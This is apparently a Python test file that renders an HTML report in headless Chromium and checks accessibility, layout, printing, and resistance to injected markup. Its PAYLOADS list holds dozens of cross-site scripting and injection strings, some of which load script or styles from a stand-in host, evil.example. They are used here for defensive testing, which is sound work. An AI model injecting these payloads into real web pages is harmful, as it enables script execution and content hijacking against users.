"""The dossier in a real browser: nothing runs, nothing is fetched, everybody can read it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, sync_playwright
from tests.dossier.sample import COMPARISON, CONFLICT, EVENTS, ISSUES, POSITIONS, REPORTS, material

from communique.dossier import Change, Fact, Refusal, Want, render
from communique.terms import Block, Cut, OffsetMap, Report, Span

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = [
    "--no-sandbox",
    "--headless",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no browser at {CHROMIUM}")

PAYLOADS = (
    "<script>window.ran=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<body onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1>",
    "<object data=javascript:window.ran=1>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/s.css)</style>",
    "<style>*{background:url(https://evil.example/b.png)}</style>",
    "</style><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</svg><script>window.ran=1</script>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    '"><script>window.ran=1</script>',
    "'><script>window.ran=1</script>",
    '" autofocus onfocus=window.ran=1 x="',
    "' onmouseover=window.ran=1 '",
    "<a href=javascript:window.ran=1 id=e1>x</a>",
    '<a href="java\tscript:window.ran=1">x</a>',
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<select autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<audio src=x onerror=window.ran=1>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<form action=javascript:window.ran=1><button id=go>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<template><script>window.ran=1</script></template>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "<scr\x00ipt>window.ran=1</scr\x00ipt>",
    "\u202e<script>window.ran=1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "{{ 7*7 }}{% set x = 1 %}",
    "${window.ran=1}",
    "\ud800<script>window.ran=1</script>",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def dossier(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("dossier") / "dossier.html"
    path.write_text(render(material(conflict=CONFLICT)), "utf-8")
    return path


@pytest.fixture(scope="module")
def page(browser: Browser, dossier: Path) -> Page:
    return _open(browser, dossier)


def _open(browser: Browser, path: Path, **more: object) -> Page:
    page = browser.new_page(**more)  # type: ignore[arg-type]
    page.set_default_timeout(180_000)
    page.goto(path.as_uri())
    return page


def test_axe_finds_no_violation_on_a_desk_and_on_a_phone(browser, dossier):
    # axe is a script, which the policy forbids: it is let in for the check only.
    page = _open(browser, dossier, bypass_csp=True)
    for width in (1280, 375):
        page.set_viewport_size({"width": width, "height": 900})
        results = Axe().run(page)
        assert results.violations_count == 0, results.generate_report()


def test_a_phone_needs_no_sideways_scroll(page):
    for width in (320, 375, 700, 1000):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_it_prints(page):
    made = page.pdf(prefer_css_page_size=True)
    assert made.startswith(b"%PDF")
    assert len(re.findall(rb"/Type\s*/Page\b", made)) >= 3


def test_a_click_on_a_numeral_highlights_its_passage_and_the_way_back_works(page):
    page.set_viewport_size({"width": 1280, "height": 900})
    page.click("dl.stand sup.m a >> nth=4")
    target = page.evaluate("location.hash")
    assert page.locator(target).evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(255, 229, 150)"
    assert page.evaluate("window.scrollY") > 1000
    page.click(f'sup.b a[href="#c{target[2:]}"] >> nth=0')
    assert page.evaluate("location.hash") == f"#c{target[2:]}"
    assert page.evaluate("window.scrollY") < 900


def test_the_style_is_let_in_by_the_policy(page):
    page.set_viewport_size({"width": 1280, "height": 900})
    assert page.locator("h1").evaluate("e => getComputedStyle(e).fontSize") == "40px"


def _poisoned(payload: str, place: int) -> Report:
    """A report with `payload` in every field that comes from outside."""
    text = f"{payload}\n\n{payload} said {payload} on Monday."
    cut = len(payload)
    return Report(
        id=f"r{place:010x}",
        sha256="0" * 64,
        name=payload,
        source=text,
        text=text,
        blocks=(Block(kind="headline", span=Span(0, cut)), Block(kind="body", span=Span(cut + 2, len(text)))),
        offsets=OffsetMap.identity(len(text)),
        cuts=(Cut(span=Span(0, cut), reason=payload),),
        headline=payload,
        outlet=payload,
        published=date(2022, 1, 12),
        place=payload,
        credits=(payload,),
        url=payload,
        notes=(payload,),
    )


def test_no_payload_runs_and_nothing_is_fetched(browser, tmp_path):
    assert len(PAYLOADS) >= 40
    reports = REPORTS + tuple(_poisoned(payload, place) for place, payload in enumerate(PAYLOADS))
    poisoned = replace(
        COMPARISON,
        positions=POSITIONS
        + tuple(
            replace(
                POSITIONS[place % 4], party=payload, word=payload, evidence=(reports[5 + place].evidence(Span(0, 9)),)
            )
            for place, payload in enumerate(PAYLOADS)
        ),
        issues=tuple(replace(issue, label=PAYLOADS[place]) for place, issue in enumerate(ISSUES)),
        moves=tuple(
            replace(cited, move=replace(cited.move, actor=(PAYLOADS[place],), actor_person=PAYLOADS[-place]))
            for place, cited in enumerate(COMPARISON.moves)
        ),
        events=tuple(replace(EVENTS[place % 7], what=payload) for place, payload in enumerate(PAYLOADS)),
        discrepancies=tuple(
            replace(COMPARISON.discrepancies[place % 5], about=payload, note=payload)
            for place, payload in enumerate(PAYLOADS)
        ),
        voices=tuple(replace(COMPARISON.voices[0], speaker=payload, party=payload) for payload in PAYLOADS),
    )
    conflict = replace(
        CONFLICT,
        question=PAYLOADS[0],
        wants=tuple(Want(party=words, text=words, note=words) for words in PAYLOADS),
        notes=PAYLOADS,
        graph=tuple(replace(state, words=PAYLOADS[place]) for place, state in enumerate(CONFLICT.graph)),
        options=tuple(
            replace(option, party=PAYLOADS[4], text=PAYLOADS[place]) for place, option in enumerate(CONFLICT.options)
        ),
    )
    document = render(
        material(
            title=" ".join(PAYLOADS),
            reports=reports,
            comparison=poisoned,
            conflict=conflict,
            since=date(2024, 1, 1),
            changes=tuple(Change(about=words, before=words, after=words) for words in PAYLOADS),
            refusals=tuple(Refusal(name=payload, reason=payload) for payload in PAYLOADS),
            facts=tuple(Fact(name=payload, value=payload) for payload in PAYLOADS),
        )
    )
    path = tmp_path / "poisoned.html"
    path.write_text(document, "utf-8")
    for bypass in (False, True):  # without the policy, too: escaping alone must hold
        page = browser.new_page(bypass_csp=bypass, viewport={"width": 1280, "height": 900})
        page.set_default_timeout(180_000)
        asked: list[str] = []
        page.on("request", lambda request, asked=asked: asked.append(request.url))
        talked: list[str] = []
        page.on("dialog", lambda dialog, talked=talked: (talked.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran") is None
        assert asked == [path.as_uri()]
        assert talked == []
        assert page.locator("script, iframe, img, object, embed, form, input, base, link, video, marquee").count() == 0
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
        page.close()
